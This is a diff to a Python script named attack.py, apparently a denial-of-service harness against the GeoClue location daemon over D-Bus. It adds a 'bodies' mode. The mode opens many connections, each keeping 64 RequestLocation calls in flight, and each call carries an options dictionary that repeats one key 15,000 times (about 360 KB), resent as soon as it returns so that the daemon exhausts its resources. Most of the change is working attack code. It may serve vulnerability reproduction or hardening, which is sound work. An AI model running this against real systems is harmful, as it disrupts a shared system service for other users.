@@ -15,6 +15,11 @@ unprivileged user. Each mode prints "ready" once the attack is under way, then k
         default limit on a connection's calls waiting for answers), each call sent again when its answer comes:
         small calls on many connections, whose larger answers the bus reads from the daemon's one connection.
 
+    attack.py ADDRESS APP bodies CONNECTIONS
+        One client for APP on each of CONNECTIONS connections, each keeping 64 RequestLocation calls in flight whose
+        options repeat the key "timeout" 15,000 times (some 360 KB a call, every entry valid), each call sent again
+        when it comes back: calls the daemon holds until the next fix, with large bodies.
+
     attack.py ADDRESS APP churn CLIENTS
         Opens a connection, makes CLIENTS clients on it and closes it, again and again.
 
@@ -42,7 +47,7 @@ import dbus
 import dbus.bus
 import dbus.lowlevel
 import dbus.mainloop.glib
-from gi.repository import GLib
+from gi.repository import Gio, GLib
 
 sys.dont_write_bytecode = True
 from geoclue_names import SERVICE, MANAGER_PATH, MANAGER, CLIENT, WHEREABOUTS_CLIENT, PROPERTIES, INTROSPECTABLE, say  # noqa: E402
@@ -163,6 +168,39 @@ def requests(connections):
     loop.run()
 
 
+def bodies(connections):
+    # dbus-python keeps a dictionary's keys unique; GLib builds the array of entries as given.
+    entry = GLib.Variant.new_dict_entry(GLib.Variant("s", "timeout"), GLib.Variant("v", GLib.Variant("u", 300000)))
+    options = GLib.Variant.new_tuple(GLib.Variant.new_array(None, [entry] * 15000))
+    flags = Gio.DBusConnectionFlags.AUTHENTICATION_CLIENT | Gio.DBusConnectionFlags.MESSAGE_BUS_CONNECTION
+
+    def keep_sending(connection, path):
+        def send(*_arguments):
+            connection.call(SERVICE, path, WHEREABOUTS_CLIENT, "RequestLocation", options, None,
+                            Gio.DBusCallFlags.NONE, TIMEOUT * 1000, None, back)
+
+        def back(source, result):
+            try:
+                source.call_finish(result)
+            except GLib.Error:
+                pass
+            send()
+
+        for _ in range(64):
+            send()
+
+    for _ in range(connections):
+        connection = Gio.DBusConnection.new_for_address_sync(address, flags, None, None)
+        path = connection.call_sync(SERVICE, MANAGER_PATH, MANAGER, "CreateClient", None, None,
+                                    Gio.DBusCallFlags.NONE, TIMEOUT * 1000, None).unpack()[0]
+        connection.call_sync(SERVICE, path, PROPERTIES, "Set",
+                             GLib.Variant("(ssv)", (CLIENT, "DesktopId", GLib.Variant("s", app))), None,
+                             Gio.DBusCallFlags.NONE, TIMEOUT * 1000, None)
+        keep_sending(connection, path)
+    ready()
+    loop.run()
+
+
 def churn(clients):
     while True:
         connection = connect()
@@ -250,6 +288,8 @@ elif mode == "requests":
     requests(int(arguments[0]))
 elif mode == "answers":
     answers(int(arguments[0]))
+elif mode == "bodies":
+    bodies(int(arguments[0]))
 elif mode == "churn":
     churn(int(arguments[0]))
 elif mode == "checks":
